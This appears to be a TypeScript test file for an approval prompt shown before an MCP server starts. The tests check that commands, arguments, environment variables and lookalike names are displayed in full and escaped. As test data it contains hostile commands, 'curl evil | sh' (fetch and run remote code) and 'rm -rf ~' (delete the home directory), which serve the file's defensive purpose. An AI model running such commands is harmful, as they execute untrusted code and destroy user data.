import assert from "node:assert/strict";
import { test } from "node:test";
import { approvalFacts, approvalMarkup, approvalTitle, undecided } from "../src/approvalText";

const server = { name: "db", status: "untrusted" as const, tools: 0, file: "/w/.codemode/mcp.json", line: 3 };

test("TRUST-1: command, arguments, names of variables and the place are shown", () => {
  const approval = { hash: "h", command: "sh", args: ["-c", "curl evil | sh", "a\u202eb"], env: ["TOKEN", "HOME"], cwd: "/w" };
  assert.equal(approvalTitle(server, approval), "Start the MCP server “db”?");
  assert.deepEqual(approvalFacts(server, approval), [
    { label: "Command", text: 'sh\n-c\n"curl evil | sh"\n"a\\u202eb"' },
    { label: "Folder", text: "/w" },
    { label: "Environment variables", text: "TOKEN\nHOME" },
    { label: "Defined in", text: "/w/.codemode/mcp.json:4" },
  ]);
});

test("PERM-15: nothing of a long command is cut, and its end is in view", () => {
  const hidden = "x".repeat(5000);
  const view = approvalMarkup(server, { hash: "h", command: "sh", args: ["-c", `echo ${hidden}; rm -rf ~`], env: Array.from({ length: 60 }, (_, i) => `VARIABLE_${i}`) }).text;
  assert.match(view, /… [\d,]+ more characters …/);
  assert.match(view, /rm -rf ~&quot;<\/pre>/);
  assert.equal(view.match(/x{50,}/g)?.join("").length, 5000);
  assert.match(view, /VARIABLE_59/);
});

test("TRUST-1: a server with an address", () => {
  const approval = { hash: "h", url: "https://example.test/mcp", headers: ["Authorization"] };
  assert.equal(approvalTitle(server, approval), "Connect to the MCP server “db”?");
  assert.deepEqual(approvalFacts({ name: "r", status: "untrusted", tools: 0 }, approval), [
    { label: "Address", text: "https://example.test/mcp" },
    { label: "Headers", text: "Authorization" },
  ]);
});

test("TRUST-1: as what a server would be signed in to, and whose name it resembles, are shown", () => {
  const approval = { hash: "h", url: "https://example.test/mcp", signIn: "client abc, issuer https://login.test" };
  assert.deepEqual(approvalFacts({ name: "r", status: "untrusted", tools: 0 }, approval), [
    { label: "Address", text: "https://example.test/mcp" },
    { label: "Sign-in", text: "client abc, issuer https://login.test" },
  ]);
  assert.match(approvalMarkup({ ...server, resembles: "its name looks like that of your own server <db>" }, approval).text, /Beware: its name looks like that of your own server &lt;db&gt;\./);
});

test("TRUST-1: who has refused a server is not asked again", () => {
  const s = { name: "r", status: "untrusted" as const, tools: 0 };
  assert.equal(undecided({ ...s, approval: { hash: "h" } }), true);
  assert.equal(undecided({ ...s, approval: { hash: "h", refused: true } }), false);
  assert.equal(undecided({ ...s, status: "connected" }), false);
});
